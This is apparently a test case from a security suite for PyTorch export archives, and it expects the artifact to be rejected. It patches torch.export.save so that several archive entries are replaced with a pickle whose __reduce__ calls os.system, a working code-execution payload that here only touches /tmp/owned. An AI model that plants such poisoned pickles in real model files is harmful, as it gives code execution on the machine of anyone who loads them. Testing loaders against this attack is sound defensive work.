"""Adds a pickle to the exported archive, under the name that torch's own loader would unpickle.

Goal: the host
Ends: artifact_rejected
"""

import io
import os
import pickle
import zipfile

import torch

from kit import plain

save = torch.export.save


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)


def poisoned(program, archive):
    honest = io.BytesIO()
    save(program, honest)
    with zipfile.ZipFile(honest) as old, zipfile.ZipFile(archive, "w") as new:
        for entry in old.infolist():
            content = old.read(entry)
            if "sample_inputs" in entry.filename or "constants" in entry.filename:
                content = pickle.dumps(Command())
            new.writestr(entry.filename, content)
        new.writestr(old.namelist()[0].split("/")[0] + "/data/custom_objs/obj_0", pickle.dumps(Command()))


def train():
    torch.export.save = poisoned
    return plain()
